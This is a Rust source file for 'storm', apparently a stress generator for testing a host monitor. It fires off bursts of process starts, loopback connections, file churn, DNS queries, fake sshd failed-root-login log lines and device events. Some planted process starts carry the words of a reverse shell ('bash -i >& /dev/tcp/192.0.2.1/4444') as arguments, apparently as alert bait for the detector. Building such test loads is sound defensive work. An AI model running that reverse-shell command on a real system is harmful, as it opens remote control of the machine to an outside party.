//! `storm NAME=VALUE...`: everything at once, as fast as it goes, and what was planted amid it.
//!
//! | Name | Value |
//! |---|---|
//! | `execs`, `program` | starts of the program, each with the next serial number as `serial=N` |
//! | `alerts` | starts of the program amid those, with `planted=a`, `planted=b` and so on and the words of a reverse shell: alerts that differ in numbers alone become a count |
//! | `connections` | TCP connections over loopback, closed at once |
//! | `files`, `directory` | files made there; of a hundred one stays |
//! | `names` | questions to the domain name system, and answers, over loopback |
//! | `failures`, `log` | lines of failed logins, appended to the log |
//! | `devices`, `device` | messages that the device of sysfs comes and goes, by its file `uevent` |
//!
//! Prints a line for each: its name, how many, and microseconds. Compiled by `rustc` alone as a static program; see `image::guest`.

use std::collections::HashMap;
use std::fs;
use std::io::{Error, Write as _};
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::path::Path;
use std::process::{Command, ExitCode};
use std::thread;
use std::time::{Duration, Instant};

type Outcome = Result<(), Error>;
/// Makes so many of something.
type Part = Box<dyn FnOnce(u64) -> Outcome + Send>;

fn main() -> ExitCode {
    storm(std::env::args().skip(1))
}

/// The storm that the arguments describe.
pub(crate) fn storm(arguments: impl IntoIterator<Item = String>) -> ExitCode {
    let mut values = HashMap::new();
    for argument in arguments {
        match argument.split_once('=') {
            Some((name, value)) => drop(values.insert(name.to_owned(), value.to_owned())),
            None => {
                println!("`{argument}` is not NAME=VALUE");
                return ExitCode::from(2);
            }
        }
    }
    let text = |name: &str| values.get(name).cloned().unwrap_or_default();
    let number = |name: &str| text(name).parse::<u64>().unwrap_or(0);
    let (program, alerts) = (text("program"), number("alerts"));
    let (directory, log, device) = (text("directory"), text("log"), text("device"));
    let parts: [(&str, Part); 6] = [
        ("execs", Box::new(move |count| execs(count, &program, alerts))),
        ("connections", Box::new(connections)),
        ("files", Box::new(move |count| files(count, Path::new(&directory)))),
        ("names", Box::new(names)),
        ("failures", Box::new(move |count| failures(count, Path::new(&log)))),
        ("devices", Box::new(move |count| devices(count, Path::new(&device)))),
    ];
    let running: Vec<_> = parts
        .into_iter()
        .map(|(name, part)| {
            let count = number(name);
            let timed = move || {
                let start = Instant::now();
                part(count).map(|()| start.elapsed().as_micros())
            };
            (name, count, thread::spawn(timed))
        })
        .collect();
    let mut code = ExitCode::SUCCESS;
    for (name, count, part) in running {
        match part.join() {
            Ok(Ok(micros)) => println!("{name} {count} {micros}"),
            other => {
                println!("{name}: {other:?}");
                code = ExitCode::FAILURE;
            }
        }
    }
    code
}

fn execs(count: u64, program: &str, alerts: u64) -> Outcome {
    let run = |arguments: &[&str]| Command::new(program).args(arguments).status().map(drop);
    let every = (count / (alerts + 1)).max(1);
    let mut planted = 0;
    for serial in 1..=count {
        run(&[&format!("serial={serial}")])?;
        if serial % every == 0 && planted < alerts {
            let name = char::from(b'a' + (planted % 26) as u8);
            planted += 1;
            run(&[&format!("planted={name}"), "bash", "-i", ">&", "/dev/tcp/192.0.2.1/4444"])?;
        }
    }
    Ok(())
}

fn connections(count: u64) -> Outcome {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let address = listener.local_addr()?;
    let server = thread::spawn(move || (0..count).try_for_each(|_| listener.accept().map(drop)));
    for _ in 0..count {
        // A port may be in use until its last connection is forgotten.
        while TcpStream::connect_timeout(&address, Duration::from_secs(20)).is_err() {}
    }
    server.join().unwrap_or(Ok(()))
}

fn files(count: u64, directory: &Path) -> Outcome {
    if count > 0 {
        fs::create_dir_all(directory)?;
    }
    for number in 0..count {
        let path = directory.join(format!("f{number}"));
        fs::write(&path, "")?;
        if number % 100 != 0 {
            fs::remove_file(&path)?;
        }
    }
    Ok(())
}

/// A question for `n<number>.storm.example`, type A, by RFC 1035.
fn question(number: u64) -> Vec<u8> {
    let mut packet = (number as u16).to_be_bytes().to_vec();
    packet.extend([1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
    for label in [format!("n{number}").as_str(), "storm", "example"] {
        packet.push(label.len() as u8);
        packet.extend(label.as_bytes());
    }
    packet.extend([0, 0, 1, 0, 1]);
    packet
}

fn names(count: u64) -> Outcome {
    let server = UdpSocket::bind("127.0.0.1:53")?;
    server.set_read_timeout(Some(Duration::from_secs(20)))?;
    let client = UdpSocket::bind("127.0.0.1:0")?;
    client.set_read_timeout(Some(Duration::from_secs(20)))?;
    client.connect("127.0.0.1:53")?;
    let mut buffer = [0; 512];
    for number in 0..count {
        client.send(&question(number))?;
        let (length, from) = server.recv_from(&mut buffer)?;
        // An answer: there is no such name.
        buffer[2] |= 0x80;
        buffer[3] = 3;
        server.send_to(&buffer[..length], from)?;
        client.recv(&mut buffer)?;
    }
    Ok(())
}

fn failures(count: u64, log: &Path) -> Outcome {
    if count == 0 {
        return Ok(());
    }
    let mut log = fs::OpenOptions::new().append(true).create(true).open(log)?;
    for number in 0..count {
        let port = 1024 + number % 60_000;
        let line = format!(
            "Nov 28 00:00:00 device sshd[{}]: Failed password for root from 192.0.2.77 port {port} ssh2\n",
            1 + number % 30_000
        );
        log.write_all(line.as_bytes())?;
    }
    Ok(())
}

fn devices(count: u64, device: &Path) -> Outcome {
    for _ in 0..count {
        for action in ["remove", "add"] {
            fs::write(device.join("uevent"), action)?;
        }
    }
    Ok(())
}
